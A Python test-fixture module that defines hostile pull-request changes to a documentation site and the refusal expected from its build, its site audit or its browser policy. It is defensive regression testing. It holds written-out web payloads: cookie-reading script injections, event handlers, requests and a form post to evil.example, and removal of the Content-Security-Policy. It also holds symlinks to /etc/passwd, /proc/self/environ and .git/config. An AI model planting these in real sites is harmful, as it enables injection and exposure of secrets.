"""A corpus of hostile pull-request changes beyond the data file (issue #18): pages, assets, schemas,
the translation record, mkdocs.yml and the theme overrides, written as a hostile contributor would.

Each :class:`Change` says what it does to a copy of the project and the answer expected:

- ``check``: ``make check`` and the build refuse it before reading anything, naming ``file``;
- ``audit``: the build's site audit refuses it, naming the built ``file`` and what it found
  (``says``); the previous ``site/`` stays as it was;
- ``safe``: the build succeeds, and a reader's browser opening ``visit`` (and doing ``act``) makes
  no request off the site's origin and opens no dialog (tests/browser/test_hostile_pages.py).

tests/test_hostile_prs.py builds them (page and asset changes several to a build, each named in
the refusal; changes to mkdocs.yml and the overrides one to a build, as they touch every page).
"""

from __future__ import annotations

import gzip
import os
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

EVIL = "evil.example"


@dataclass(frozen=True)
class Change:
    name: str
    area: str  # page, asset, schema, translations, mkdocs.yml, overrides
    apply: Callable[[Path], None]
    answer: str  # check, audit, safe
    file: str = ""  # the path the refusal names (in the site for audit, in the repository for check)
    says: str = ""
    visit: str = ""  # safe: the page a reader opens (under the site's root)
    act: str = ""  # safe: a CSS selector the reader clicks, then the browser waits
    every_page: bool = False  # it changes every page (a theme file)

    @property
    def alone(self) -> bool:
        """Whether this change needs a build of its own (it touches every page, or stops the build early)."""
        return self.every_page or self.area in ("mkdocs.yml", "overrides") or self.answer == "check"


def _write(path: Path, content: str | bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")


def page(name: str, body: str, answer: str = "audit", says: str = "", act: str = "") -> Change:
    """A hand-written Spanish page (docs/es/hostil/<name>.md) holding ``body``."""
    return Change(name, "page", lambda root: _write(root / "docs" / "es" / "hostil" / f"{name}.md", f"# {name}\n\n{body}\n"),
                  answer, f"hostil/{name}/index.html", says, f"hostil/{name}/", act)


def asset(name: str, path: str, content: str | bytes, says: str, every_page: bool = False) -> Change:
    return Change(name, "asset", lambda root: _write(root / "docs" / path, content), "audit", path, says, every_page=every_page)


def link(name: str, path: str, target: str) -> Change:
    def apply(root: Path) -> None:
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        if os.path.lexists(root / path):
            (root / path).unlink()
        (root / path).symlink_to(target)
    area = "schema" if path.endswith(".json") else "translations" if "translations" in path else "asset"
    return Change(name, area, apply, "check", path, f"symbolic link (to {target})")


def edit(name: str, area: str, path: str, old: str, new: str, answer: str, file: str = "", says: str = "",
         visit: str = "", act: str = "") -> Change:
    """``path`` with ``old`` replaced by ``new`` (``old`` must be there: the change is real)."""
    def apply(root: Path) -> None:
        text = (root / path).read_text(encoding="utf-8")
        assert old in text, f"{name}: {old!r} not in {path}"
        (root / path).write_text(text.replace(old, new, 1), encoding="utf-8")
    return Change(name, area, apply, answer, file, says, visit, act)


def mkdocs(name: str, old: str, new: str, answer: str, says: str = "", visit: str = "", act: str = "") -> Change:
    return edit(name, "mkdocs.yml", "mkdocs.yml", old, new, answer, "404.html" if answer == "audit" else "", says, visit, act)


def overrides(name: str, path: str, old: str, new: str, says: str, file: str = "404.html") -> Change:
    return edit(name, "overrides", f"overrides/{path}", old, new, "audit", file, says)


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
FAR = "resource from another host"

CHANGES: list[Change] = [
    # --- pages: markup the theme's script turns into requests to other hosts
    page("mermaid", '<pre class="mermaid">graph TD; A-->B</pre>', says='<pre class="mermaid">'),
    page("alternate", f'<link rel="alternate" href="https://other.{EVIL}/feed.xml">', says="<link rel=alternate> to another host"),
    page("source", f'<a href="https://github.com/{EVIL}/x" data-md-component="source">repo</a>', says='data-md-component="source"'),
    # --- pages: scripts
    page("inline-script", "<script>alert(document.cookie)</script>", says="inline <script>"),
    page("module-script", f'<script type="module">import("https://{EVIL}/m.js")</script>', says="inline <script>"),
    page("speculation", f'<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["https://{EVIL}/"]}}]}}</script>',
         says="inline <script>"),
    page("srcdoc", '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>', says="in <iframe srcdoc>: inline <script>"),
    page("handler", '<img src="x.png" alt="x" onerror="alert(1)">', says="inline event handler onerror="),
    page("svg-script", "<svg><script>alert(1)</script></svg>", says="inline <script>"),
    page("js-link", '<a href="javascript:alert(1)">x</a>', says="javascript: URL in <a href>"),
    page("own-script", '<script src="../../assets/hostil/run.js"></script>', says="<script> loading a file that is not one of the site's scripts"),
    # --- pages: resources from other hosts
    page("img", f'<img src="https://{EVIL}/p.png" alt="x">', says=f"{FAR} in <img src>"),
    page("srcset", f'<img src="a.png" srcset="//{EVIL}/p.png 2x" alt="x">', says=f"{FAR} in <img srcset>"),
    page("css-url", f'<p style="background:url(//{EVIL}/c.png)">x</p>', says=f"{FAR} in CSS"),
    page("css-import", f'<style>@import "//{EVIL}/i.css";</style>', says=f"{FAR} in CSS"),
    page("tbody", f'<table><tbody background="//{EVIL}/t.png"><tr><td>x</td></tr></tbody></table>', says=f"{FAR} in <tbody background>"),
    page("tr-th", f'<table><tr background="//{EVIL}/r.png"><th>x</th></tr></table>', says=f"{FAR} in <tr background>"),
    page("shadow-root", f'<div><template shadowrootmode="open"><td background="//{EVIL}/s.png">x</td></template></div>',
         says=f"in <template>: {FAR} in <td background>"),
    page("object", f'<object data="https://{EVIL}/x.swf"></object>', says=f"{FAR} in <object data>"),
    page("iframe", f'<iframe src="https://{EVIL}/"></iframe>', says=f"{FAR} in <iframe src>"),
    page("prefetch", f'<link rel="prefetch" href="//{EVIL}/x">', says=f"{FAR} in <link href>"),
    page("base", f'<base href="https://{EVIL}/">', says="<base> element"),
    page("svg-image", f'<svg><image href="//{EVIL}/i.png"/></svg>', says=f"{FAR} in <image href>"),
    page("ping", f'<a href="#x" ping="//{EVIL}/ping">x</a>', says=f"{FAR} in <a ping>"),
    page("noscript", f'<noscript><img src="//{EVIL}/n.png" alt="x"></noscript>', says=f"in <noscript>: {FAR} in <img src>"),
    page("refresh", f'<meta http-equiv="refresh" content="0; url=https://{EVIL}/">', says=f"{FAR} in <meta content>"),
    # --- pages a browser opens safely: links and forms to other hosts wait for the reader, and the
    # policy refuses a form's post to another host
    page("form", f'<form action="https://{EVIL}/collect" method="post"><button id="go">Enviar</button></form>',
         answer="safe", act="#go"),
    page("links", f'<a id="go" href="#top">arriba</a> [otro sitio](https://{EVIL}/) <a href="https://{EVIL}/" data-preview>vista</a>',
         answer="safe", act="#go"),
    # --- assets under docs/: documents and scripts a browser opens or loads
    asset("js-file", "assets/hostil/run.js", "alert(1)", "a script file that is not one of the site's scripts"),
    asset("theme-bundle", "assets/javascripts/bundle.a5f9d56c.min.js", "alert(1)", "a script file that is not one of the site's scripts",
          every_page=True),
    asset("svg-script-file", "assets/hostil/s.svg", SVG.format("<script>alert(1)</script>"), "<script> in an SVG or XML document"),
    asset("svg-onload", "assets/hostil/o.svg", SVG.format('<rect onload="alert(1)"/>'), "inline event handler onload="),
    asset("svg-foreign", "assets/hostil/f.svg", SVG.format(f'<image xlink:href="//{EVIL}/i.png"/>'), f"{FAR} in <image xlink:href>"),
    asset("svgz", "assets/hostil/z.svgz", gzip.compress(SVG.format("<script>alert(1)</script>").encode()), "<script> in an SVG or XML document"),
    asset("xsd", "assets/hostil/s.xsd", f'<schema xmlns="http://www.w3.org/2001/XMLSchema"><script {XHTML}>alert(1)</script></schema>',
          "<script> in an SVG or XML document"),
    asset("rng", "assets/hostil/g.rng", f'<grammar xmlns="http://relaxng.org/ns/structure/1.0"><img {XHTML} src="//{EVIL}/g.png"/></grammar>',
          f"{FAR} in <img src>"),
    asset("xhtml", "assets/hostil/p.xhtml", f'<html {XHTML}><body><img src="//{EVIL}/x.png"/></body></html>', f"{FAR} in <img src>"),
    asset("xml-stylesheet", "assets/hostil/f.xml", f'<?xml-stylesheet type="text/css" href="//{EVIL}/x.css"?><feed/>',
          f"{FAR} in <?xml-stylesheet href>"),
    asset("raw-html", "assets/hostil/page.html", "<!doctype html><html><head></head><body>x</body></html>", "no Content-Security-Policy"),
    asset("css-file", "assets/hostil/x.css", f"body {{ background: url(https://{EVIL}/b.png) }}", f"{FAR} in CSS"),
    asset("font-face", "assets/hostil/f.css", f"@font-face {{ font-family: x; src: url(//{EVIL}/f.woff2) }}", f"{FAR} in CSS"),
    # --- files that are not the repository's own
    link("passwd", "docs/assets/passwd.txt", "/etc/passwd"),
    link("git-config", "docs/assets/config.txt", "../../.git/config"),
    link("environ", "docs/assets/environ.txt", "/proc/self/environ"),
    link("host-folder", "docs/assets/ssh", "/etc/ssh"),
    link("schema-link", "data/objectives.schema.json", "/etc/hostname"),
    link("record-link", "data/translations.yml", "/dev/zero"),
    link("page-link", "docs/es/hostil.md", "/etc/passwd"),
    Change("pagefind-script", "asset", lambda root: _write(root / "docs" / "pagefind" / "es" / "pagefind.js", "alert(1)"),
           "check", "pagefind/es/pagefind.js", "would be published in pagefind/"),
    Change("fifo", "asset", lambda root: os.mkfifo(root / "docs" / "assets" / "pipe"), "check", "docs/assets/pipe",
           "not a plain file or folder"),
    # --- mkdocs.yml
    mkdocs("extra-js", "  - assets/reader/reader.js", f"  - assets/reader/reader.js\n  - https://{EVIL}/x.js", "audit", f"{FAR} in <script src>"),
    mkdocs("extra-css", "  - assets/reader/reader.css", f"  - assets/reader/reader.css\n  - https://{EVIL}/x.css", "audit", f"{FAR} in <link href>"),
    mkdocs("google-fonts", "  font: false", "  font: {text: Roboto}", "audit", f"{FAR} in <link href>"),
    mkdocs("analytics", "  generator: false", "  generator: false\n  analytics: {provider: google, property: G-XXXXXXX}", "audit",
           "inline <script>"),
    mkdocs("share", "    - search.suggest", "    - search.suggest\n    - search.share", "safe", visit=""),
    mkdocs("gitlab", "repo_url: https://github.com/alianza-pacifico-mipymes/hoja-de-ruta",
           f"repo_url: https://gitlab.{EVIL}/x/y", "safe", visit=""),
    mkdocs("version-selector", "  generator: false", "  generator: false\n  version: {provider: mike}", "safe", visit=""),
    # --- theme overrides
    Change("theme-folder-script", "overrides", lambda root: _write(root / "overrides" / "assets" / "run.js", "alert(1)"), "audit",
           "assets/run.js", "a script file that is not one of the site's scripts"),
    overrides("csp-weaker", "partials/csp.html", 'content="{{ content_security_policy }}"',
              "content=\"default-src *; script-src * 'unsafe-inline'\"", "Content-Security-Policy differs from the site's"),
    overrides("csp-gone", "partials/csp.html", '<meta http-equiv="Content-Security-Policy" content="{{ content_security_policy }}">', "",
              "no Content-Security-Policy"),
    overrides("inline-in-theme", "main.html", "{% block extrahead %}\n  {{ super() }}",
              "{% block extrahead %}\n  {{ super() }}<script>alert(1)</script>", "inline <script>"),
    overrides("before-policy", "main.html", '  <meta charset="utf-8">\n  {% include "partials/csp.html" %}',
              '  <meta charset="utf-8">\n  <link rel="stylesheet" href="x.css">\n  {% include "partials/csp.html" %}',
              "<link> before the Content-Security-Policy <meta>", file="actores/index.html"),  # 404.html has its own <head>
    overrides("theme-script", "main.html", "{% block extrahead %}\n  {{ super() }}",
              "{% block extrahead %}\n  {{ super() }}<script src=\"{{ 'assets/x.js' | url }}\"></script>",
              "<script> loading a file that is not one of the site's scripts"),
]


def by_answer(answer: str, alone: bool | None = None) -> list[Change]:
    return [c for c in CHANGES if c.answer == answer and (alone is None or c.alone == alone)]


def finding_lines(stderr: str) -> list[str]:
    """The site audit's findings as the failed build lists them, each as ``built file: what``
    (the build writes ``  source:line:1: error: site audit: built file: what``, or ``  built file:
    what`` for a file only the theme writes)."""
    found = []
    for line in stderr.splitlines():
        sourced = re.match(r"^  \S+:\d+:\d+: error: site audit: (.*)$", line)
        if sourced or re.match(r"^  \S+: ", line):
            found.append(sourced.group(1) if sourced else line.strip())
    return found
